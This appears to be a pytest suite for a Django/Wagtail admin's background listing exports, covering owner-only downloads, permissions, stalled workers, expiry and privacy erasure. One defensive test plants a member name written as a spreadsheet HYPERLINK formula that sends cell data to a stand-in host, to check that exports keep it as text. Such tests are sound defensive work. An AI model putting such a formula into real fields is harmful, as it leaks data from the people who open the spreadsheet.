"""Exports built by the task worker (issue 15 point 4, home/exports.py): a listing's export with
more rows than EXPORT_INLINE_MAX is queued, built as its owner (the test settings' immediate
backend runs it), followed on the Exports screen and downloaded by its owner only; expired ones
are removed. Below the threshold the export is still streamed."""

import csv
import datetime
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from django.conf import settings
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from wagtail.models import ModelLogEntry

from home import admin_export, exports, privacy
from home.models import Export, ReminderKind, SentReminder
from invoices.services import LineSpec, issue_invoice
from tests.factories import UserFactory, speaks

pytestmark = pytest.mark.django_db

REMINDERS = "sent_reminders:index"


@pytest.fixture(autouse=True)
def small_threshold(settings):
    settings.EXPORT_INLINE_MAX = 3


@pytest.fixture
def admin(client):
    user = UserFactory(is_staff=True, is_superuser=True)
    client.force_login(user)
    return user


def reminders(n, kind=ReminderKind.UNPAID_INVOICE):
    for i in range(n):
        SentReminder.objects.create(kind=kind, key=f"{kind}:{i}", about=f"Facture {i}")


def read(response, export_format):
    content = b"".join(response.streaming_content)
    for closer in response._resource_closers:
        closer()
    response._resource_closers = []
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode())))
    return list(load_workbook(io.BytesIO(content), read_only=True).active.values)


def not_found(client, url):
    """A 404 (under the language-neutral /admin/, LocaleMiddleware first redirects a 404 to the
    same address under /fr/, which is a 404 too), without the file."""
    response = client.get(url, follow=True)
    return response.status_code == 404 and "Content-Disposition" not in response


def ask_export(client, url, export_format, capture, **filters):
    with capture(execute=True):
        return client.get(url, {**filters, "export": export_format})


@pytest.mark.parametrize(
    ("export_format", "language", "label"),
    [("xlsx", "fr", "Facture impayée"), ("csv", "en", "Unpaid invoice")],
)
def test_a_large_export_is_built_in_the_background_and_downloaded_by_its_owner(
    client, admin, django_capture_on_commit_callbacks, export_format, language, label
):
    speaks(admin, language)
    reminders(5)
    response = ask_export(
        client, reverse(REMINDERS), export_format, django_capture_on_commit_callbacks
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("quorum_exports:index")

    export = Export.objects.get()
    assert export.owner == admin
    assert export.format == export_format
    assert export.language == language
    assert export.status == Export.Status.READY
    assert (export.rows_total, export.rows_done) == (5, 5)
    assert export.finished_at is not None
    # In private storage, under a random name, never in the public media.
    stored = Path(export.file.path)
    assert stored.is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT))
    assert not stored.is_relative_to(Path(settings.MEDIA_ROOT))
    assert "rappel" not in stored.name and "reminder" not in stored.name

    page = client.get(reverse("quorum_exports:index"))
    assert page.status_code == 200
    download_url = reverse("quorum_exports:download", args=[export.pk])
    assert download_url in page.content.decode()
    assert "data-exports-refresh" not in page.content.decode()  # nothing is running

    download = client.get(download_url)
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    assert export.filename in download["Content-Disposition"]
    rows = read(download, export_format)
    assert len(rows) == 1 + 5
    assert all(row[0] == label for row in rows[1:])

    actions = set(
        ModelLogEntry.objects.filter(object_id=str(export.pk), user=admin).values_list(
            "action", flat=True
        )
    )
    assert actions == {"home.export_created", "home.export_downloaded"}


def test_the_export_keeps_the_listing_filters(client, admin, django_capture_on_commit_callbacks):
    reminders(4)
    reminders(2, kind=ReminderKind.RENEWAL)
    ask_export(
        client,
        reverse(REMINDERS),
        "csv",
        django_capture_on_commit_callbacks,
        kind=ReminderKind.UNPAID_INVOICE,
    )
    export = Export.objects.get()
    assert "kind=unpaid_invoice" in export.url and "export" not in export.url
    assert export.rows_total == 4
    download = client.get(reverse("quorum_exports:download", args=[export.pk]))
    assert len(read(download, "csv")) == 1 + 4


def test_below_the_threshold_the_export_is_still_streamed(client, admin):
    reminders(3)
    response = client.get(reverse(REMINDERS), {"export": "csv"})
    assert response.status_code == 200
    assert len(read(response, "csv")) == 1 + 3
    assert not Export.objects.exists()


def test_the_progress_is_saved_once_per_chunk(
    client, admin, django_capture_on_commit_callbacks, monkeypatch
):
    monkeypatch.setattr(admin_export, "EXPORT_CHUNK_SIZE", 2)
    saved = []
    original = exports.record_progress

    def spy(export, *, rows_done):
        saved.append(rows_done)
        original(export, rows_done=rows_done)

    monkeypatch.setattr(exports, "record_progress", spy)
    reminders(5)
    ask_export(client, reverse(REMINDERS), "xlsx", django_capture_on_commit_callbacks)
    assert saved == [2, 4, 5]
    assert Export.objects.get().status == Export.Status.READY


def test_another_staff_member_cannot_see_or_download_it(
    client, admin, django_capture_on_commit_callbacks
):
    reminders(5)
    ask_export(client, reverse(REMINDERS), "csv", django_capture_on_commit_callbacks)
    export = Export.objects.get()
    other = UserFactory(is_staff=True, is_superuser=True)
    client.force_login(other)
    assert not_found(client, reverse("quorum_exports:download", args=[export.pk]))
    page = client.get(reverse("quorum_exports:index")).content.decode()
    assert reverse("quorum_exports:download", args=[export.pk]) not in page
    assert not ModelLogEntry.objects.filter(action="home.export_downloaded").exists()


def test_the_listing_permission_is_still_required(client, django_capture_on_commit_callbacks):
    """The task requests the listing as the owner: a permission withdrawn in between fails
    the export, and a staff member without it cannot queue one."""
    staff = UserFactory(is_staff=True)
    permission = Permission.objects.get(codename="record_payment")
    staff.user_permissions.add(Permission.objects.get(codename="access_admin"), permission)
    client.force_login(staff)
    for i in range(5):
        issue_invoice(lines=[LineSpec(f"Atelier {i}", "10.00")], customer=UserFactory(), by=staff)

    with django_capture_on_commit_callbacks() as callbacks:
        response = client.get(reverse("invoice_admin:index"), {"export": "xlsx"})
    assert response.status_code == 302
    staff.user_permissions.remove(permission)
    for callback in callbacks:
        callback()
    export = Export.objects.get()
    assert export.status == Export.Status.FAILED
    assert not export.file
    assert not_found(client, reverse("quorum_exports:download", args=[export.pk]))

    response = client.get(reverse("invoice_admin:index"), {"export": "xlsx"})
    assert response.status_code == 302 and response["Location"] != reverse("quorum_exports:index")
    assert Export.objects.count() == 1


def test_the_screen_refreshes_itself_and_shows_progress_while_running(client, admin):
    Export.objects.create(
        owner=admin,
        listing="Rappels envoyés",
        url="/admin/sent_reminders/",
        format="xlsx",
        filename="rappels.xlsx",
        status=Export.Status.RUNNING,
        rows_total=500_000,
        rows_done=120_000,
    )
    page = client.get(reverse("quorum_exports:index")).content.decode()
    assert 'data-exports-refresh="5"' in page
    assert "js/exports.js" in page
    assert 'max="500000" value="120000"' in page


@pytest.mark.parametrize(
    ("language", "failed", "stopped"),
    [
        ("fr", "Échoué", "L’exportation s’est arrêtée avant la fin. Demandez-la de nouveau"),
        ("en", "Failed", "The export stopped before it was finished. Ask for it again"),
    ],
)
def test_an_export_whose_worker_stopped_ends_up_failed(client, admin, language, failed, stopped):
    """A worker that crashed or restarted leaves its export running: with no progress for
    EXPORT_STALLED_MINUTES the screen shows it failed, to be asked again; one still progressing
    (a chunk written a minute ago, however long it has run) keeps its progress."""
    speaks(admin, language)
    now = timezone.now()
    common = {"owner": admin, "url": "/admin/sent_reminders/", "format": "xlsx"}
    stalled = Export.objects.create(
        listing="Rappels envoyés",
        filename="rappels.xlsx",
        status=Export.Status.RUNNING,
        rows_total=500_000,
        rows_done=120_000,
        created_at=now - datetime.timedelta(hours=1),
        progressed_at=now - datetime.timedelta(minutes=settings.EXPORT_STALLED_MINUTES + 1),
        **common,
    )
    progressing = Export.objects.create(
        listing="Factures",
        filename="factures.xlsx",
        status=Export.Status.RUNNING,
        rows_total=500_000,
        rows_done=300_000,
        created_at=now - datetime.timedelta(hours=1),
        progressed_at=now - datetime.timedelta(minutes=1),
        **common,
    )

    page = client.get(reverse("quorum_exports:index")).content.decode()
    stalled_row = page.split(f'data-export="{stalled.pk}"')[1].split("</tr>")[0]
    progressing_row = page.split(f'data-export="{progressing.pk}"')[1].split("</tr>")[0]
    assert 'data-status="failed"' in stalled_row and failed in stalled_row
    assert stopped in stalled_row
    assert "<progress" not in stalled_row
    assert 'data-status="running"' in progressing_row
    assert 'max="500000" value="300000"' in progressing_row
    assert 'data-exports-refresh="5"' in page  # the other one still runs

    stalled.refresh_from_db()
    assert (stalled.status, stalled.failure) == (Export.Status.FAILED, Export.Failure.STALLED)
    assert stalled.finished_at is not None
    entry = ModelLogEntry.objects.get(object_id=str(stalled.pk), action="home.export_stalled")
    assert entry.user is None  # the system, not the staff member who read the list
    assert not ModelLogEntry.objects.filter(
        object_id=str(progressing.pk), action="home.export_stalled"
    ).exists()
    # Read again: logged once. And a worker that comes back does not revive it.
    client.get(reverse("quorum_exports:index"))
    assert ModelLogEntry.objects.filter(action="home.export_stalled").count() == 1
    exports.record_progress(stalled, rows_done=122_000)
    exports.finish(stalled, content=io.BytesIO(b"PK"))
    stalled.refresh_from_db()
    assert (stalled.status, stalled.rows_done, stalled.file.name) == ("failed", 120_000, "")


def test_expired_exports_are_removed_with_their_files(
    client, admin, django_capture_on_commit_callbacks
):
    from home.management.commands.run_scheduler import JOBS

    assert "delete_old_exports" in [job.__name__ for job, _minutes in JOBS]
    reminders(5)
    ask_export(client, reverse(REMINDERS), "csv", django_capture_on_commit_callbacks)
    ask_export(client, reverse(REMINDERS), "xlsx", django_capture_on_commit_callbacks)
    old, recent = Export.objects.order_by("pk")
    Export.objects.filter(pk=old.pk).update(created_at=timezone.now() - datetime.timedelta(days=8))
    old_file = Path(old.file.path)
    assert old_file.exists()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("delete_old_exports", stdout=io.StringIO())
    assert list(Export.objects.all()) == [recent]
    assert not old_file.exists()
    assert Path(recent.file.path).exists()


def test_exports_are_in_the_privacy_registry(client, admin, django_capture_on_commit_callbacks):
    reminders(5)
    ask_export(client, reverse(REMINDERS), "csv", django_capture_on_commit_callbacks)
    assert "home.Export" in privacy.exported_models()
    data = privacy.export_person(admin)
    assert [entry["format"] for entry in data["exports"]] == ["csv"]
    stored = Path(Export.objects.get().file.path)
    with django_capture_on_commit_callbacks(execute=True):
        exports.erase_exports(admin, by=admin, former={})
    assert not Export.objects.exists()
    assert not stored.exists()


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_name_typed_as_a_formula_stays_text_in_the_export(client, admin, export_format):
    """A member named "=HYPERLINK(…)" (or an answer, an organization typed by a member) reaches
    the accountant's spreadsheet as text, never as a formula the program would run."""
    formula = '=HYPERLINK("https://example.com/?x="&A1,"Cliquez")'
    UserFactory(first_name=formula, last_name="-2+3", email="formule@example.com")
    response = client.get(reverse("member_people:index"), {"export": export_format})
    content = b"".join(response.streaming_content)
    for closer in response._resource_closers:
        closer()
    response._resource_closers = []
    if export_format == "csv":
        row = next(
            r for r in csv.reader(io.StringIO(content.decode())) if "formule@example.com" in r
        )
        assert f"'{formula}" in row and "'-2+3" in row
    else:  # Wagtail writes XLSX text cells as text (no formula), the value as typed
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [c for r in sheet.iter_rows() for c in r if c.value in (formula, "-2+3")]
        assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
